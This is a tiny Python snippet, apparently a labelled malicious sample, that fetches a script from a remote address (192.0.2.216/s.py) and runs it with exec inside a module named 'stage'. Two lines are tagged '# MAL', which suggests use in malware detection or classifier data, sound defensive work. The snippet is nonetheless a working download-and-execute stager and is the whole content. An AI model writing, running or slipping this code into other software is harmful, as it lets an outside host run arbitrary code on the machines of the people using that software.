import types
import urllib.request
m = types.ModuleType("stage")
src = urllib.request.urlopen("http://192.0.2.216/s.py").read()  # MAL
exec(src, m.__dict__)  # MAL
